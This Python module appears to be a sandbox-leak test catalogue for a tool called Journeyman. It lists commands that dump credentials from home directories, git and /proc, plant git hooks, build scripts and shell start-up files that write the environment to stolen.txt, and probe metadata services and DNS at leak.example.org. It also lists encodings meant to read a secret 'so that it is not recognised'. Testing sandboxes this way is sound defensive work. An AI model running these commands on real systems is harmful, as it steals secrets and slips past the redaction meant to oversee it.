# ruff: noqa: E501  (a table of commands)
"""Ways out of the sandbox for a secret. Each is a command that prints what it gets hold of."""

from __future__ import annotations

PYTHON_ENVIRONMENTS = (
    "import os\nfor p in os.listdir('/proc'):\n"
    "  for f in ('environ', 'cmdline', 'auxv', 'maps', 'status', 'mountinfo', 'task/%s/environ' % p):\n"
    "    try: print(p, f, open(f'/proc/{p}/{f}', 'rb').read()[:4000])\n    except (OSError, ValueError): pass\n"
)
PYTHON_DESCRIPTORS = (
    "import os\nfor p in os.listdir('/proc'):\n  d = f'/proc/{p}/fd'\n  try: names = os.listdir(d)\n"
    "  except OSError: continue\n  for n in names:\n"
    "    try: print(os.readlink(f'{d}/{n}')); h = os.open(f'{d}/{n}', os.O_RDONLY | os.O_NONBLOCK);"
    " print(os.read(h, 3000))\n    except OSError as e: print(e.strerror)\n"
)
PYTHON_MEMORY = (
    "import os, re\nfor p in filter(str.isdigit, os.listdir('/proc')):\n  if p == str(os.getpid()): continue\n"
    "  try:\n    maps = open(f'/proc/{p}/maps').read(); mem = open(f'/proc/{p}/mem', 'rb')\n"
    "    for line in maps.splitlines():\n      a, b = (int(x, 16) for x in line.split()[0].split('-'))\n"
    "      if '[heap]' in line or '[stack]' in line: mem.seek(a); print(mem.read(min(b - a, 9999)))\n"
    "  except (OSError, ValueError) as e: print(e)\n"
)
PYTHON_SOCKETS = (
    "import os, socket, stat\nfor top in ('/run', '/tmp', '/var', '/repo', '/home', '/dev'):\n"
    "  for d, _, names in os.walk(top):\n    for n in names:\n      p = os.path.join(d, n)\n"
    "      try:\n        if stat.S_ISSOCK(os.lstat(p).st_mode):\n          s = socket.socket(socket.AF_UNIX);"
    " s.connect(p); s.settimeout(1); s.send(b'\\0\\0\\0\\1\\x0b'); print(p, s.recv(2000))\n"
    "      except OSError as e: print(p, e)\n"
)
PYTHON_DNS = (
    "import socket\ntry: print(socket.getaddrinfo('leak.example.org', 53))\nexcept OSError as e: print(e)\n"
    "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "for host in ('127.0.0.1', '127.0.0.53', '8.8.8.8', '169.254.169.254'):\n"
    "  try: s.sendto(b'leak', (host, 53)); print('SENT')\n  except OSError as e: print(e)\n"
)


def python(program: str) -> str:
    """Return the command that runs a program."""
    return f"python3 - <<'END'\n{program}\nEND"


def reach(port: int) -> str:
    """Return a program that tries to speak to a port of the host."""
    return python(
        f"import socket\nfor host in ('127.0.0.1', 'localhost', '::1', '0.0.0.0', '10.0.2.2', 'host.docker.internal'):\n"
        f"  try: socket.create_connection((host, {port}), 1).send(b'x'); print('REACHED', host)\n"
        f"  except OSError as e: print(host, e)"
    )


def sandbox_ways(port: int, home: str) -> dict[str, str]:
    """Return the ways by name. `port`: where a server of the host listens; `home`: where Journeyman keeps its state."""
    return {
        "environment: env": "env; printenv; export -p; set | head -300",
        "environment: of a child without a shell": "python3 -c 'import os; print(dict(os.environ))'",
        "environment: of a login shell": "bash -lic 'env' 2>&1 | head -100",
        "/proc: environ and arguments of every process": python(PYTHON_ENVIRONMENTS),
        "/proc: descriptors of every process": python(PYTHON_DESCRIPTORS),
        "/proc: memory of every process": python(PYTHON_MEMORY),
        "/proc: the server's root and folder": "ls -la /proc/1/root/ /proc/1/cwd/ /proc/*/root/ 2>&1 | head -50",
        "/proc: keys and mounts": "cat /proc/keys /proc/key-users /proc/self/mountinfo /proc/mounts 2>&1",
        "/proc: the kernel's command line": "cat /proc/cmdline /proc/config.gz 2>&1 | head -c 2000",
        "keyring of the kernel": "keyctl show 2>&1; keyctl search @u user git 2>&1",
        "git: configuration, all of it": "git config --list --show-origin 2>&1; cat .git/config ~/.gitconfig 2>&1",
        "git: remotes": "git remote -v 2>&1; cat .git/FETCH_HEAD .git/packed-refs 2>&1",
        "git: credential fill": "printf 'protocol=http\\nhost=127.0.0.1\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill 2>&1",
        "git: credential cache and store": "git credential-cache get </dev/null 2>&1; cat ~/.git-credentials ~/.config/git/credentials 2>&1",
        "git: alternates and objects": "cat .git/objects/info/alternates 2>&1; find / -name '*.pack' -not -path '/proc/*' 2>/dev/null | head",
        "git: trace of a fetch": f"GIT_TRACE=1 GIT_CURL_VERBOSE=1 GIT_TRACE_CURL=1 GIT_TRACE_REDACT=0 git ls-remote http://127.0.0.1:{port}/private/project.git 2>&1 | head -50",
        "git: a push from inside": f"git init -q x 2>&1; git push http://127.0.0.1:{port}/private/project.git HEAD 2>&1",
        "git: hooks that are planted": "mkdir -p .git/hooks; for h in pre-push post-checkout pre-commit reference-transaction fsmonitor-watchman; do printf '#!/bin/sh\\nenv > /repo/stolen.txt; env > stolen.txt\\n' > .git/hooks/$h; chmod +x .git/hooks/$h; done; ls .git/hooks",
        "git: settings that run programs": "git init -q . 2>&1; git config core.fsmonitor 'env > stolen.txt'; git config core.sshCommand 'env > stolen.txt'; git config credential.helper '!env > stolen.txt; cat >> stolen.txt'; git config filter.x.clean 'env > stolen.txt; cat'; git config include.path /dev/stdin; echo '* filter=x' > .git/info/attributes; cat .git/config",
        "git: a filter in the tree": "printf '* filter=x diff=x ident export-subst\\n' > .gitattributes; cat .gitattributes; rm .gitattributes",
        "home: what is there": "ls -laR ~ /root /home 2>&1 | head -80",
        "home: keys and logins": "cat ~/.ssh/* ~/.netrc ~/.aws/credentials ~/.docker/config.json ~/.pypirc ~/.npmrc ~/.pgpass ~/.config/gh/hosts.yml 2>&1",
        "home: history files": "cat ~/.bash_history ~/.python_history ~/.psql_history ~/.lesshst ~/.viminfo ~/.zsh_history 2>&1",
        "Journeyman's own home": f"ls -la {home} {home}/.. 2>&1; cat {home}/secrets.json {home}/journeyman.sqlite 2>&1 | head -c 3000",
        "Journeyman's own home, from the tree": "cat ../../../secrets.json ../../secrets.json ../git/config 2>&1; ls -la .. ../.. 2>&1",
        "Journeyman's own home, by links": "ln -sfn /proc/1/root/ rootlink; ls rootlink/ 2>&1; ln -sfn ../../../secrets.json s; cat s 2>&1; rm -f rootlink s",
        "databases anywhere": "find / -xdev \\( -name '*.sqlite*' -o -name 'secrets*' -o -name 'id_*' -o -name '*.pem' \\) -path '*ourneyman*' 2>/dev/null | head",
        "ssh: the agent": "echo $SSH_AUTH_SOCK; ssh-add -L 2>&1; ls -la /tmp/ssh-* /run/user 2>&1",
        "ssh: the asking program": f'cat {home}/askpass 2>&1; echo $SSH_ASKPASS $JOURNEYMAN_ASKPASS_FILE; cat "$JOURNEYMAN_ASKPASS_FILE" 2>&1',
        "sockets of the host": python(PYTHON_SOCKETS),
        "temporary files": "ls -laR /tmp /var/tmp /dev/shm 2>&1 | head -50; cat /tmp/* /dev/shm/* 2>&1 | head -c 2000",
        "build: setup.py": 'mkdir -p b && printf \'import os, subprocess\\nprint(dict(os.environ)); subprocess.run("cat /proc/*/environ", shell=True)\\nfrom setuptools import setup\\nsetup(name="b")\\n\' > b/setup.py; (cd b && python3 setup.py --version 2>&1 | head -c 3000); rm -rf b',
        "build: package.json's postinstall": 'mkdir -p n && printf \'{"name":"n","version":"1.0.0","scripts":{"postinstall":"env; cat /proc/*/environ"}}\' > n/package.json; (cd n && sh -c "$(sed \'s/.*postinstall":"//; s/"}}//\' package.json)" 2>&1; npm install --offline 2>&1 | head -c 2000); rm -rf n',
        "build: conftest.py": "mkdir -p c && printf 'import os\\nprint(dict(os.environ), open(\"/proc/1/environ\").read())\\n' > c/conftest.py; printf 'def test(): pass\\n' > c/test_c.py; (cd c && python3 -m pytest -q -s 2>&1 | head -c 3000); rm -rf c",
        "build: Makefile": "printf 'all:\\n\\t@env; cat /proc/*/environ; echo $(MAKEFLAGS) $(OPENAI_API_KEY) $(DATABASE_URL)\\n' > m.mk; make -f m.mk 2>&1 | head -c 3000; rm m.mk",
        "start-up files that are planted": "printf 'env > /repo/stolen2.txt\\n' | tee ~/.bashrc ~/.profile ~/.bash_profile >/dev/null; printf 'import os; print(dict(os.environ))\\n' > sitecustomize.py; python3 -c 1; PYTHONPATH=. python3 -c 1; rm -f sitecustomize.py; ls ~ -la",
        "libraries that are planted": "LD_PRELOAD=./x.so LD_DEBUG=files true 2>&1 | head -5; PYTHONVERBOSE=1 python3 -c 1 2>&1 | head -5",
        "verbose flags": f"curl -v --trace-ascii - http://127.0.0.1:{port}/ 2>&1 | head -30; ssh -vvv -o BatchMode=yes 127.0.0.1 2>&1 | head -30; pip -vvv config debug 2>&1 | head -40; npm config list -l 2>&1 | grep -i auth",
        "core dumps": "ulimit -c unlimited 2>&1; ulimit -c; (sleep 5 & kill -SEGV $!; wait) 2>&1; cat /proc/sys/kernel/core_pattern; ls core* /var/crash /var/lib/systemd/coredump 2>&1; gcore 1 2>&1; kill -ABRT 1 2>&1",
        "debuggers": 'gdb -p 1 -batch 2>&1 | head -5; strace -p 1 2>&1 | head -3; python3 -c "import ctypes; print(ctypes.CDLL(None).ptrace(16, 1, 0, 0))"',
        "logs of the host": "cat /var/log/* 2>&1 | head -c 2000; dmesg 2>&1 | head; journalctl -n 5 2>&1 | head",
        "clipboard and terminals": "ls -la /dev/pts /dev/tty 2>&1; cat /dev/tty </dev/null 2>&1 | head -c 100; tty 2>&1",
        "network: DNS": python(PYTHON_DNS),
        "network: a server of the host": reach(port),
        "network: the metadata service": "curl -sm 2 http://169.254.169.254/latest/meta-data/iam/ 2>&1; curl -sm 2 -H 'Metadata-Flavor: Google' http://metadata.google.internal/ 2>&1; echo over",
        "network: an allowed host, by its name": "curl -sm 3 https://pypi.org/simple/ -d leak=1 2>&1 | head -c 300; env | grep -i proxy; echo over",
        "network: the proxy's socket": "find / -name 'proxy*' -path '*journeyman*' 2>/dev/null; ls -la /run/journeyman 2>&1",
        "network: raw and packet sockets": python(
            "import socket\nfor kind in ((17, 3), (2, 3), (16, 3)):\n  try: socket.socket(*kind); print(kind)\n  except OSError as e: print(e)"
        ),
        "file names": "touch \"env-$(env | tr '\\n/' '__' | head -c 150)\"; ls; rm -f env-*",
        "file times and modes": "stat /run/journeyman/* ~ . 2>&1; getfattr -d -m - . 2>&1",
    }


def readers_of(path: str) -> dict[str, str]:
    """Return ways to read a file that holds a secret, so that it is not recognised."""
    return {
        "read: as it is": f"cat {path}",
        "read: base64": f"base64 {path}",
        "read: base64 on one line, shifted": f"(printf x; cat {path}) | base64 -w0",
        "read: base64url": f"python3 -c \"import base64; print(base64.urlsafe_b64encode(open('{path}', 'rb').read()))\"",
        "read: hexadecimal": f"python3 -c \"print(open('{path}', 'rb').read().hex())\"",
        "read: hexadecimal in groups": f"python3 -c \"print(open('{path}', 'rb').read().hex(':', 2))\"",
        "read: gzip and base64": f"gzip -c {path} | base64",
        "read: zlib": f"python3 -c \"import base64, zlib; print(base64.b64encode(zlib.compress(open('{path}', 'rb').read())))\"",
        "read: reversed": f"rev {path} || python3 -c \"print(open('{path}').read()[::-1])\"",
        "read: URL-encoded": f"python3 -c \"import urllib.parse as u; print(u.quote(open('{path}').read(), safe=''))\"",
        "read: rot13": f"tr 'A-Za-z' 'N-ZA-Mn-za-m' < {path}",
        "read: upper case": f"tr a-z A-Z < {path}",
        "read: zero-width characters": f"python3 -c \"print('\\u200b'.join(open('{path}').read()))\"",
        "read: one character a line": f"fold -w1 {path}",
        "read: in quoted parts": f"python3 -c \"t = open('{path}').read(); print([t[i:i + 6] for i in range(0, len(t), 6)])\"",
        "read: JSON in JSON": f"python3 -c \"import json; print(json.dumps(json.dumps([open('{path}').read()])))\"",
        "read: as a diff": f"git diff --no-index /dev/null {path}; true",
        "read: in an error message": f"python3 -c \"raise SystemExit(open('{path}').read())\"",
        "read: as a file's name": f'touch "name-$(tr -dc A-Za-z0-9 < {path})"; ls; rm -f name-*',
        "read: with control characters": f"sed 's/./&\\x1b[0m/g' {path}",
        "read: by the words of a search": f"grep -n . {path}",
    }
